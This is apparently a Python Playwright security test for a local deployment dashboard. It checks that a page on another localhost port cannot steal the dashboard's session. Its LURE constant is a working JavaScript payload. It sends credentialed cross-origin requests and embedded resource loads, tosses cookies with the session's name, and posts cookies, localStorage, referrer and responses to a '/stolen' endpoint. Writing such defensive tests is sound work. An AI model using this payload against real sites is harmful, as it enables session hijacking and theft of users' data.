"""A browser with a session, and a server on another port that sees every request the browser can be made to send."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from tests.attacks.claims import proves
from tests.support.thief import Thief, thief
from tests.support.waiting import PATIENCE
from tests.web.servers import Server

Serve = Callable[..., AbstractContextManager[Server]]

#: Asks for all that a page can ask for, of its own server and of the dashboard's, by every means there is.
LURE = """<!doctype html><title>lure</title><script>
const own = ["/simple-deploy/", "/simple-deploy", "/simple-deploy/pixel", "/simple-deploy/runs/", "/simple-deploy/static/x/app.css",
             "/simple-deploy/watch/", "/simple-deploy/" + "a".repeat(24) + "/", "/simple-deploy//", "/simple-deploy/../simple-deploy/x"];
const there = own.map((path) => `http://127.0.0.1:DASHBOARD${path}`);
const tries = [];
for (const address of [...own, ...there]) {
  for (const mode of ["no-cors", "cors"])
    tries.push(fetch(address, {credentials: "include", mode, referrerPolicy: "unsafe-url"}).then((found) => found.text()).catch(() => ""));
  tries.push(fetch(address, {method: "POST", mode: "no-cors", credentials: "include", body: "token=x"}).catch(() => ""));
  for (const kind of ["img", "script", "iframe"]) {
    const found = document.createElement(kind);
    found.src = address;
    tries.push(new Promise((done) => { found.onload = found.onerror = done; }));
    document.documentElement.append(found);
  }
}
Promise.all(tries).then((got) => fetch("/stolen", {method: "POST", body: JSON.stringify([got, document.cookie, document.referrer,
  Object.entries(localStorage), performance.getEntriesByType("resource").map((entry) => entry.name), location.href, history.length])}))
  .then(() => { location.href = "/simple-deploy/the-end"; });
</script>"""


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    context = browser.new_context()
    context.set_default_timeout(PATIENCE * 1000)
    yield context
    context.close()


def lured(page: Page, server: Server, other: Thief) -> str:
    """Everything that the other server gets to see when the owner follows a link to it from the dashboard."""
    page.evaluate("address => { location.href = address; }", other.address)
    page.wait_for_url("**/simple-deploy/the-end")
    return json.dumps(other.seen("/simple-deploy/the-end"))


@pytest.mark.slow
@proves(
    "The owner's browser follows a link from the dashboard to a server on another port, whose page makes it "
    "request every address it can name on both ports, sets cookies with the session's name, and reads what it can",
    "It sees neither the session's cookie nor its address; it reads nothing of the project; the owner's session "
    "continues, and the address without a session leads back to it",
    number=10,
    closes=(1,),
)
def test_other_port_of_this_computer_as_a_server(serve: Serve, context: BrowserContext) -> None:
    with serve() as server:
        name = f"simple_deploy_{server.port}"
        tossed = tuple(f"{name}=tossed; Path={path}" for path in ("/", "/simple-deploy", "/simple-deploy/"))
        page = context.new_page()
        page.goto(server.link)
        expect(page.get_by_role("heading", name="Where should it go?").or_(page.locator("main h1"))).to_be_visible()
        home = page.url
        assert re.fullmatch(rf"{server.base}/simple-deploy/[\w-]{{24}}/", home)
        session = home.split("/")[-2]
        (cookie,) = (each["value"] for each in context.cookies(home) if each["name"] == name)  # type: ignore[typeddict-item]
        with thief(LURE.replace("DASHBOARD", str(server.port)), tossed) as other:
            seen = lured(page, server, other)
        assert f"{name}=tossed" in seen, "it does see what the browser sends"
        assert "/stolen" in seen
        assert session not in seen
        assert cookie not in seen
        assert "mysite" not in seen

        page.goto(f"{server.base}/simple-deploy/runs/")  # typed: leads to the session
        page.wait_for_url(f"{home}runs/")
        expect(page.get_by_role("heading", name="History")).to_be_visible()
        page.reload()
        expect(page.get_by_role("heading", name="History")).to_be_visible()
        context.clear_cookies()
        page.goto(f"{server.base}/simple-deploy/")  # the session is over: asked for the code, and not sent in circles
        expect(page.get_by_role("heading", name="Open it from your terminal")).to_be_visible()
        page.wait_for_url(home)
        page.goto(f"{server.base}/simple-deploy/")
        expect(page.get_by_label("Or paste the access code")).to_be_visible()
        assert page.url == f"{server.base}/simple-deploy/"
